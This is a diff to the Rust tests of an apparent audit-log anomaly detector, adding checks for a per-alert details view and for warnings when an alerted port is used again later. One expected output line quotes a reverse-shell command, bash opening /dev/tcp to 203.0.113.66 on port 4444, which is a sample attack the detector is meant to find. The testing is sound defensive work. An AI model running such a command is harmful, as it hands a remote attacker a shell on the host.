@@ -50,9 +50,12 @@ fn the_attack_on_the_fleet_is_found_and_nothing_else() {
 #[test]
 fn a_run_that_went_well_says_one_line() {
     let run = rareport(&["detect", &corpus("fleet-day")]).expect(0);
+    // The two are in the ground truth of the log, at 1780574751 and 1780573065.
     assert_eq!(
         run.stderr,
-        "rareport: 7 alerts with a score of 50 or more in 339 buckets of 15 minutes\n"
+        "rareport: port 4444 was used later by ci01 at 2026-06-04T12:05:51.863Z\n\
+         rareport: port 31337 was used later by db01 at 2026-06-04T11:37:45.448Z\n\
+         rareport: 7 alerts with a score of 50 or more in 339 buckets of 15 minutes\n"
     );
     let events = rareport(&["events", &corpus("fleet-day")]).expect(0);
     assert_eq!(
@@ -328,4 +331,58 @@ fn one_event_of_a_wrong_clock_costs_nothing() {
         assert_eq!(ports(&wrong), ports(&right), "{at} {time}: {}", wrong.stderr);
         assert!(wrong.stderr.contains("clock"), "{}", wrong.stderr);
     }
+}
+
+#[test]
+fn details_show_the_events_below_the_table() {
+    let fleet = corpus("fleet-day");
+    let table = ["detect", "--format", "table", &fleet];
+    let (plain, run) = (rareport(&table), rareport(&[&table[..], &["--details"]].concat()));
+    let details = run.stdout.strip_prefix(&plain.stdout).expect("the table comes first");
+    let block = details.split("\n\n").next().unwrap();
+    // The event is the one that `xzgrep 'node=web01.*:3163)' fleet-day/audit.log.xz` shows.
+    for line in [
+        "port 4444, score 67.4",
+        "  bucket  from 2026-06-04T09:30:00.000Z",
+        "  - 2026-06-04T09:36:05.716Z on web01 by www-data, pid 1971, parent 396",
+        "    to    203.0.113.66",
+        "    exe   /usr/bin/bash",
+        "    ran   bash -c exec 3<>/dev/tcp/203.0.113.66/4444",
+        &format!("    see   xzcat {fleet}/audit.log.xz | ausearch -a 3163 --node web01"),
+        &format!("    or    rareport records --event 1780565765.716:3163 {fleet}/audit.log.xz"),
+    ] {
+        assert!(block.lines().any(|it| it == line), "{line}\n{block}");
+    }
+    assert_eq!(details.matches("\nport ").count(), 7);
+}
+
+#[test]
+fn later_uses_of_an_alerted_port_are_told() {
+    let on = |host: &str, event: String| -> String {
+        event.lines().map(|line| format!("node={host} {line}\n")).collect()
+    };
+    let mut log = String::new();
+    for minute in 0..3000 {
+        for port in [22, 443] {
+            log += &on("web01", connect(minute, port, "CB007109"));
+        }
+        match minute {
+            2000 => log += &on("web01", connect(minute, 4444, "CB007109")),
+            2100 => log += &on("web01", connect(minute, 4444, "CB007109")),
+            2200 | 2300 => log += &on("db01", connect(minute, 4444, "CB007109")),
+            _ => {}
+        }
+    }
+    let detect = |threshold: &str| {
+        rareport_with(&["detect", "--threshold", threshold], log.as_bytes()).expect(0)
+    };
+    // Each use has an alert of its own, which names its host.
+    let each = detect("20");
+    assert_eq!(each.documents().len(), 4);
+    assert!(!each.stderr.contains("used later"), "{}", each.stderr);
+    let first = detect(&each.documents()[0]["record_score"].to_string());
+    assert_eq!(first.documents().len(), 1);
+    // Minute 2200 behind 1,700,000,000, by `date -u -d @1700132000`.
+    let told = "port 4444 was used later by db01 at 2023-11-16T10:53:20.000Z\n";
+    assert!(first.stderr.contains(told), "{}", first.stderr);
 }
